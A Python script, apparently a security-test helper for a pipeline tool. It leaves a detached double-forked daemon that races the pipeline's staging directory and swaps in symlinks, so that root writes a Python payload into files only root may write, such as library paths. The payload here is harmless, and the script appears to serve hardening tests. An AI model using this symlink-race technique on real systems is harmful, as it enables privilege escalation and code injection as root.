"""A pipeline that attacks the directory root writes the run into (standard library only).

``python swapper.py daemon SETTINGS_JSON``: leaves a daemon behind (double fork + ``setsid``:
it is in no session the action started) and returns. For up to ``seconds`` the daemon

- watches ``watch`` (the run's parent directory, if the pipeline user could write it) for the
  staging directory of the run (``.run.tmp-*``): renames it away, makes a new one of its own
  and plants there ``adapter-stderr.log`` as a symbolic link to ``log_target`` and
  ``summary.json`` as one to ``summary_target`` (files only root may write), so that root,
  copying the pipeline's log and writing the summary, writes them instead;
- notes in ``marker`` whether it is still alive once ``artifact`` (the finished run's
  ``run.json``) exists: a daemon the action ended before writing never sees it.

Its pid goes to ``pid_file``. ``python swapper.py stdio``: a command-adapter pipeline whose
stderr (the log root copies) is a line of Python.
"""

from __future__ import annotations

import json
import os
import sys
import time
from pathlib import Path

PAYLOAD = "raise SystemExit('PWNED: the pipeline wrote this as root')\n"


def _daemon(settings: dict) -> None:
    watch = Path(settings["watch"]) if settings.get("watch") else None
    artifact = Path(settings["artifact"])
    marker = Path(settings["marker"])
    deadline = time.monotonic() + float(settings.get("seconds", 60))
    swapped: set[str] = set()
    while time.monotonic() < deadline:
        if artifact.exists():
            marker.write_text("alive after the artifact was written\n")
            return
        if watch is not None:
            try:
                names = os.listdir(watch)
            except OSError:
                names = []
            for name in names:
                if ".tmp-" not in name or name.endswith(".moved") or name in swapped:
                    continue
                try:
                    os.rename(watch / name, watch / f"{name}.moved")
                    os.mkdir(watch / name)
                    os.symlink(settings["log_target"], watch / name / "adapter-stderr.log")
                    os.symlink(settings["summary_target"], watch / name / "summary.json")
                    swapped.add(name)
                except OSError:
                    continue
        time.sleep(0.0005)


def _expand(settings: dict) -> dict:
    """Targets may be globs (``/opt/ragproof/lib/python3*/...``): the first match, as given if none."""
    import glob

    for key in ("log_target", "summary_target"):
        if settings.get(key):
            settings[key] = next(iter(sorted(glob.glob(settings[key]))), settings[key])
    return settings


def daemonize(settings: dict) -> None:
    if os.fork():
        return
    os.setsid()
    if os.fork():
        os._exit(0)
    devnull = os.open(os.devnull, os.O_RDWR)
    for fd in (0, 1, 2):
        os.dup2(devnull, fd)
    Path(settings["pid_file"]).write_text(str(os.getpid()))
    try:
        _daemon(_expand(settings))
    finally:
        os._exit(0)


def stdio() -> None:
    for line in sys.stdin:
        request = json.loads(line)
        sys.stderr.write(PAYLOAD)
        sys.stderr.flush()
        result = [{"id": "doc-1", "text": "fact"}] if request["method"] == "retrieve" else {"text": "fact"}
        print(json.dumps({"id": request["id"], "result": result}), flush=True)


if __name__ == "__main__":
    if sys.argv[1] == "daemon":
        daemonize(json.loads(Path(sys.argv[2]).read_text()))
    else:
        stdio()
